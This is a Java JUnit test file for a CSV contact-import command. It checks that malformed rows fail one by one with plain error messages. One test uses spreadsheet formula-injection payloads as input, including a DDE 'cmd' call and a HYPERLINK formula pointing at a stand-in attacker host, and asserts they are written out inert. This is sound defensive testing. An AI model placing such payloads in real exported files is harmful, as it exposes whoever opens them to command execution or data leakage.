package io.intercomsync.imports;

import com.fasterxml.jackson.databind.JsonNode;
import io.intercomsync.sandbox.Sandbox;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static io.intercomsync.imports.ImportFixture.assertReportAddsUp;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile and broken files through the real command (issue 11): each refused file gets one specific
 * sentence and no stack trace; in a partly bad file every bad row fails alone and the good rows import.
 */
class ImportBadFilesTest {
    private static final String TOKEN = "tok-badfiles-61c0";
    private static final String FILE = "users_20260101T000000.csv";

    @TempDir
    Path dir;

    private Sandbox sandbox;
    private ImportFixture f;

    @BeforeEach
    void start() throws Exception {
        sandbox = Sandbox.builder().token(TOKEN).start();
        f = new ImportFixture(dir, sandbox, TOKEN);
    }

    @AfterEach
    void stop() {
        sandbox.close();
    }

    private static void assertOneSentenceNoStackTrace(ImportFixture.Result r) {
        assertThat(r.err()).as(r.all()).doesNotContain("\tat ").doesNotContain("Exception").doesNotContain("Caused by");
        String line = r.err().strip();
        assertThat(line).as("one line on stderr").doesNotContain("\n").startsWith("intercom-sync: ");
    }

    private Map<String, String> errorsByRow() throws Exception {
        return f.errorRows().stream().collect(Collectors.toMap(r -> r.get(0), r -> r.get(1)));
    }

    @Test
    void aHeaderRepeatingAMappedColumnIsRefusedNamingTheColumnAndItsPositions() throws Exception {
        f.inboxFile(FILE, "external_id,email,name,email\nu-1,a@example.com,A,b@example.com\n");

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).as(r.all()).isEqualTo(1); // the file does not fit the mapping: the run failed
        assertOneSentenceNoStackTrace(r);
        assertThat(r.err()).contains("repeats mapped column 'email'").contains("[2, 4]");
        assertThat(sandbox.contacts()).isEmpty();
    }

    @Test
    void repeatedOrBlankHeaderNamesOfUnmappedColumnsAreIgnoredAndTheRowsImport() throws Exception {
        f.inboxFile(FILE, "external_id,email,,notes,notes, \nu-1,a@example.com,x,n1,n2,y\nu-2,b@example.com,,,,\n");

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).as(r.all()).isZero();
        assertThat(sandbox.contacts()).extracting(c -> c.path("external_id").asText()).containsExactlyInAnyOrder("u-1", "u-2");
        assertReportAddsUp(f.report());
    }

    @Test
    void aMappingNamingAColumnTheFileLacksIsRefusedNamingItAndTheColumnsThereAre() throws Exception {
        f.mapping("""
                contact:
                  standard:
                    external_id: Customer ID
                    email: E-mail
                  custom:
                    seats: { column: Seats, type: integer }
                """);
        f.attribute("seats", "contact", "integer");
        f.inboxFile(FILE, "Customer ID,E-mail\nu-1,a@example.com\n");

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).as(r.all()).isEqualTo(1); // the file does not fit the mapping: the run failed
        assertOneSentenceNoStackTrace(r);
        assertThat(r.err()).contains("lacks mapped column 'Seats'").contains("contact.custom.seats")
                .contains("'Customer ID', 'E-mail'");
        assertThat(sandbox.contacts()).isEmpty();
    }

    @Test
    void aMappingWithAnUnknownTypeIsRefusedBeforeAnythingIsReadListingTheValidTypes() throws Exception {
        f.mapping("""
                contact:
                  standard:
                    email: E-mail
                  custom:
                    seats: { column: Seats, type: int }
                """);
        f.inboxFile(FILE, "E-mail,Seats\na@example.com,3\n");

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).isEqualTo(2);
        assertOneSentenceNoStackTrace(r);
        assertThat(r.err()).contains("unknown type 'int'").contains("integer");
        assertThat(sandbox.contacts()).isEmpty();
    }

    @Test
    void anEmptyFileIsRefusedAndAHeaderOnlyFileIsARunOfNoRows() throws Exception {
        f.inboxFile(FILE, "");
        ImportFixture.Result empty = f.run();
        assertThat(empty.exitCode()).isEqualTo(1);
        assertOneSentenceNoStackTrace(empty);
        assertThat(empty.err()).contains("the file is empty");

        f.inboxFile(FILE, "external_id,email\r\n");
        ImportFixture.Result headerOnly = f.run();
        assertThat(headerOnly.exitCode()).as(headerOnly.all()).isZero();
        assertThat(f.report().get("rows").asLong()).isZero();
        assertReportAddsUp(f.report());
    }

    @Test
    void aPartlyBadFileFailsEachBadRowAloneWithItsReasonAndImportsEveryGoodOne() throws Exception {
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        // A BOM before the header and CRLF line ends, as spreadsheet exports write them.
        csv.writeBytes("\uFEFFexternal_id,email,name\r\n".getBytes(StandardCharsets.UTF_8));
        csv.writeBytes("g-1,g1@example.com,Good One\r\n".getBytes(StandardCharsets.UTF_8));          // 1
        csv.writeBytes("b-2,b2@example.com\r\n".getBytes(StandardCharsets.UTF_8));                   // 2 too few
        csv.writeBytes("b-3,b3@example.com,Three,extra\r\n".getBytes(StandardCharsets.UTF_8));       // 3 too many
        csv.writeBytes("b-4,b4@example.com,Nul\u0000Byte\r\n".getBytes(StandardCharsets.UTF_8));     // 4 NUL
        csv.writeBytes("b-5,b5@example.com,Latin ".getBytes(StandardCharsets.UTF_8));                // 5 not UTF-8
        csv.writeBytes(new byte[]{(byte) 0xE9, (byte) 0xFF});
        csv.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        csv.writeBytes("g-6,g6@example.com,\"Quoted, with \"\"quotes\"\" and\r\nnewline\"\r\n".getBytes(StandardCharsets.UTF_8)); // 6
        csv.writeBytes("b-7,not-an-email,Seven\r\n".getBytes(StandardCharsets.UTF_8));               // 7 bad email
        csv.writeBytes("g-8,ünïcödé@exämple.com,Ünicode\r\n".getBytes(StandardCharsets.UTF_8));       // 8
        csv.writeBytes(("b-9,b9@example.com," + "x".repeat(10 * 1024 * 1024) + "\r\n").getBytes(StandardCharsets.UTF_8)); // 9 10 MB: too long
        csv.writeBytes("g-10,g10@example.com,Ten\r\n".getBytes(StandardCharsets.UTF_8));             // 10
        csv.writeBytes("b-11,b11@example.com,\"never closed\r\n".getBytes(StandardCharsets.UTF_8));  // 11 unclosed quote
        csv.writeBytes("g-12,g12@example.com,After the broken quote\r\n".getBytes(StandardCharsets.UTF_8)); // 12
        Files.createDirectories(dir.resolve("inbox"));
        Files.write(dir.resolve("inbox").resolve(FILE), csv.toByteArray());

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).as(r.all()).isEqualTo(3);
        assertThat(r.all()).doesNotContain("\tat ");
        JsonNode report = f.report();
        assertReportAddsUp(report);
        assertThat(report.get("rows").asLong()).as("every data record counted").isEqualTo(12);
        assertThat(report.get("created").asLong()).isEqualTo(5);
        assertThat(report.get("failed").asLong()).isEqualTo(7);
        Map<String, String> errors = errorsByRow();
        assertThat(errors).containsOnlyKeys("2", "3", "4", "5", "7", "9", "11");
        assertThat(errors.get("2")).isEqualTo("row has 2 values, header has 3");
        assertThat(errors.get("3")).isEqualTo("row has 4 values, header has 3");
        assertThat(errors.get("4")).isEqualTo("column 'name' contains a NUL byte");
        assertThat(errors.get("5")).isEqualTo("column 'name' has bytes that are not valid UTF-8 (check csv.encoding)");
        assertThat(errors.get("7")).contains("'email'").contains("not-an-email").contains("not an email");
        assertThat(errors.get("9")).isEqualTo("line 11: the row is longer than csv.max-row-chars (1048576 characters); it was not read");
        assertThat(errors.get("11")).isEqualTo("line 13: the quote that opens column 'name' is not closed on its row"
                + " (a missing \"?); the lines after it were read as rows of their own");
        assertThat(f.errorRows().stream().filter(row -> row.get(0).equals("11")).findFirst().orElseThrow().toList().subList(3, 6))
                .containsExactly("b-11", "b11@example.com", "never closed");
        assertThat(sandbox.contacts()).extracting(c -> c.path("external_id").asText())
                .containsExactlyInAnyOrder("g-1", "g-6", "g-8", "g-10", "g-12");
        assertThat(sandbox.contactByExternalId("g-12").orElseThrow().path("name").asText()).isEqualTo("After the broken quote");
        assertThat(sandbox.contactByExternalId("g-1").orElseThrow().path("name").asText()).isEqualTo("Good One");
        assertThat(sandbox.contactByExternalId("g-6").orElseThrow().path("name").asText())
                .isEqualTo("Quoted, with \"quotes\" and\r\nnewline");
        assertThat(sandbox.contactByExternalId("g-8").orElseThrow().path("email").asText()).isEqualTo("ünïcödé@exämple.com");
    }

    @Test
    void formulaCellsOfAFailedRowAreWrittenInertInTheErrorsCsv() throws Exception {
        f.inboxFile(FILE, "external_id,email,name,=cmd|' /C calc'!A0\n"
                + "x-1,bad-email,=HYPERLINK(\"http://evil.example/\"&A1),+1+1\n"
                + "x-2,also bad,-2+3,@SUM(A1:A9)\n"
                + "x-3,ok@example.com,Fine,=1+1\n");

        ImportFixture.Result r = f.run();

        assertThat(r.exitCode()).as(r.all()).isEqualTo(3);
        List<String> header;
        try (var reader = Files.newBufferedReader(dir.resolve("out/user_errors.csv"))) {
            header = org.apache.commons.csv.CSVFormat.DEFAULT.parse(reader).getRecords().get(0).toList();
        }
        assertThat(header).containsExactly("row_number", "error", "failed_at", "external_id", "email", "name", "'=cmd|' /C calc'!A0");
        List<CSVRecord> rows = f.errorRows();
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0).toList().subList(3, 7)).containsExactly("x-1", "bad-email", "'=HYPERLINK(\"http://evil.example/\"&A1)", "'+1+1");
        assertThat(rows.get(1).toList().subList(3, 7)).containsExactly("x-2", "also bad", "'-2+3", "'@SUM(A1:A9)");
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell).as("cell of row " + row.get(0)).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@");
            }
        }
        // The value sent to Intercom is the user's own text, untouched.
        assertThat(sandbox.contactByExternalId("x-3")).isPresent();
    }
}
